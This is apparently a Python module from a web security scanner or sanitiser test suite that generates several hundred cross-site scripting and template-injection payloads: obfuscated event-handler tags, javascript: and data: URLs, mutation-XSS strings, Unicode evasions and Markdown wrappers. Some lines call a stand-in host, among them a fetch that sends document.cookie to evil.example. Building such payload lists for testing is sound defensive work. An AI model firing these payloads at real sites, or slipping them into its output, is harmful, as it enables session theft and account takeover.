"""Texts that would run a script, or ask another server for something, where they became markup.

Each is one of a class that sanitisers and templates were got round by; most are made by putting
ways to run something into ways to be let through. What they run is alert(1), what they ask for is
at HOST. After the cheat sheets of OWASP, PortSwigger and cure53, and published advisories.
"""

import re
from collections.abc import Iterator
from itertools import product

HOST = "evil.example"

# A tag, and the event by which it runs something without anybody doing anything, or with the mouse.
_EVENTS = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onend"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("xss contenteditable autofocus", "onfocus"),
    ("marquee loop=1", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("frameset", "onload"),
    ("dialog open", "onfocus"),
    ("div style=animation-name:x", "onanimationstart"),
    ("math><mi tabindex=0 autofocus", "onfocus"),
    ("button", "onpointerover"),
)
# How a tag is written so that a filter takes it for something else.
_TAGS = (
    "<{tag} {event}=alert(1)>",
    '<{upper} {event}="alert(1)">',
    "<{slashed}/{event}='alert(1)'/>",
    "\"><{tag} {event}='alert(1)'>",
    "<{tag}\n{event}\n=\nalert(1)//",
    "</textarea></title></script></style><{tag} {event}=alert(1)>",
    "<{tag} {event}=&#97;&#x6c;ert&lpar;1&rpar;>",
    "<{tag} {event}=alert`1` <!--",
)

_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "javascript:%61lert(1)",
    f"javascript://{HOST}/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    f"//{HOST}/x.js",
    f"https://{HOST}/x.js",
    f"\\\\{HOST}\\x",
)
_LOADS = (
    "[x]({address})",
    "[x](<{address}>)",
    "![x]({address})",
    "[![x]({address})]({address})",
    "<{address}>",
    "[x]: <{address}>\n\n[x]",
    '<a href="{address}" autofocus>x</a>',
    '<img src="{address}" srcset="{address} 2x">',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button autofocus>x</button></form>',
    '<object data="{address}"></object>',
    '<embed src="{address}">',
    '<base href="{address}">',
    '<meta http-equiv="refresh" content="0;url={address}">',
    '<link rel="stylesheet" href="{address}">',
    '<link rel="prefetch" href="{address}">',
    '<script src="{address}"></script>',
    '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
    '<svg><use href="{address}#x"/><image href="{address}"/></svg>',
    '<math><mtext xlink:href="{address}" href="{address}">x</mtext></math>',
    '<video poster="{address}" src="{address}"></video>',
    '<div style="background:url({address})">x</div>',
    '<input type=image src="{address}" formaction="{address}">',
    "$\\href{{{address}}}{{x}}$",
)

_PLAIN = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\t>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    f'<script>fetch("https://{HOST}/?"+document.cookie)</script>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<style>*{{background:url(//{HOST}/x)}}</style>",
    "<img src=x onerror=alert(1) //",
    "<a href=x onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus>x",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    f"<portal src=https://{HOST}></portal>",
    f"<bgsound src=//{HOST}/x><isindex type=image src=//{HOST}/x>",
    f"<a ping=//{HOST}/x href=#>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
)
# Whose markup means another thing when it is parsed a second time.
_MUTATING = (
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><p><style><!--</style><img src onerror=alert(1)>--></p></foreignObject>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<svg><desc><img src=x onerror=alert(1)></desc><title><img src=x onerror=alert(1)></title>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "<select><style><img src onerror=alert(1)></style></select>",
    "<table><td><svg><style><td title='</style><img src onerror=alert(1)>'>",
    "<p id='<svg><style></p><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<a title='`'><img src=x alt='` onerror=alert(1)'>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<div is=x-y onload=alert(1)></div><x-y onload=alert(1)></x-y>",
    "<form id=x><input name=attributes><input name=children><img name=body></form>",
    "<a id=defaultView><a id=defaultView name=alert href='x:'>",
    "$<img src=x onerror=alert(1)>$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\class{x' onload='alert(1)}{y}$",
    "$\\style{background:url(//" + HOST + ")}{x}$",
    "$$\\begin{array}{x' onfocus='alert(1)}<svg onload=alert(1)>\\end{array}$$",
)
# What a template engine, or a script that holds a text, would make of it.
_BROKEN_OUT = (
    "{{7*7}}{% debug %}",
    "{% load static %}{% include 'admin/index.html' %}",
    "{{ request.user.password }}{{ csrf_token }}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "[[${7*7}]]__${alert(1)}__::.x",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" @click=alert(1) x-init=alert(1)></div>",
    f"<div hx-get='https://{HOST}/' hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<div hx-disable hx-vals='js:{a:alert(1)}' data-hx-trigger=load data-hx-get=/></div>",
    "<div data-turn data-stream='//" + HOST + "/x' data-live='//" + HOST + "/x'></div>",
    '<div data-part="javascript:alert(1)" data-drawer data-poll=\'//' + HOST + "/x'></div>",
    "</script><script>alert(1)</script>",
    '"};alert(1);//',
    "';alert(1);'",
    "\\';alert(1);//",
    '\\";alert(1);//',
    "`${alert(1)}`",
    "*/alert(1)/*",
    "-->]]>*/</style></title><img src=x onerror=alert(1)>",
    "\\u003cscript>alert(1)\\u003c/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "x onmouseover=alert(1) style=position:fixed;inset:0",
    "event: error\ndata: <img src=x onerror=alert(1)>\n\n",
)
_OTHER_LETTERS = (
    "＜script＞alert(1)＜/script＞",
    "＜img src=x onerror=alert(1)＞",
    "﹤svg onload=alert(1)﹥",
    "‹img src=x onerror=alert(1)›",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "<\u00adscript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<\u0130mg src=x onerror=alert(1)>",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
    "<img/\u000csrc=x\u000bonerror=alert(1)>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\ufeff<script>alert(1)</script>",
    "<a href='java\u0000script:alert(1)'>x</a>".replace("\0", "\ufffd"),
    "<img src=x onerror=\u2028alert(1)>",
    "<script>\u2029alert(1)</script>",
)
# What Markdown makes of what is inside, or in place, of its own marks.
_MARKDOWN = (
    "| a | b |\n|---|---|\n| {} | x |",
    "# {}",
    "> {}",
    "- {}\n  - {}",
    "1. {}",
    "```\n{}\n```",
    "```html {}\n{}\n```",
    "    {}",
    "`{}`",
    "**{}**~~{}~~",
    '[x](/ "{}")',
    "[{}](https://strata.example)",
    "\\{}",
    "{}\n===",
)


def _generate_payloads() -> Iterator[str]:
    for (tag, event), form in product(_EVENTS, _TAGS):
        yield form.format(tag=tag, upper=tag.upper(), slashed=tag.replace(" ", "/"), event=event)
    for address, form in product(_ADDRESSES, _LOADS):
        yield form.format(address=address)
    yield from _PLAIN + _MUTATING + _BROKEN_OUT + _OTHER_LETTERS
    for payload, form in product(_PLAIN[::3], _MARKDOWN):
        yield form.replace("{}", payload)


PAYLOADS = tuple(dict.fromkeys(_generate_payloads()))


def mark(column: int, payload: int) -> str:
    """What is found again of a text in a page, whichever payload it is."""
    return f"zq{column}n{payload}z"


MARK = re.compile(r"zq(\d+)n(\d+)z")
